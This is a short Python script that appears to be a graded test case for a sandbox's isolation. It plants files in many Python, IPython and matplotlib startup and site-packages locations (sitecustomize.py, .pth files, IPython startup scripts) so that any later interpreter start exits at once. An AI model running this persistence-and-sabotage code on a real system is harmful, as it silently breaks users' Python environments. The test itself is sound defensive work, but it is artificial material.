# Leaves files that Python and IPython would run at their next start.
# base: right
# points: 33
# status: graded|crashed
# %%
import os
import site

home = os.path.expanduser("~")
evil = "import os\nos._exit(3)\n"
for folder in (f"{home}/.ipython/profile_default/startup", site.getusersitepackages(), ".", home,
               *site.getsitepackages(), f"{home}/.config/matplotlib", "/etc/ipython/startup"):  # fmt: skip
    for name in ("00-evil.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "ipython_config.py",
                 "matplotlibrc", ".pythonrc", "ipython_kernel_config.py"):  # fmt: skip
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(evil.replace("\n", ";") if name.endswith(".pth") else evil)
        except OSError:
            pass
os._exit(0)
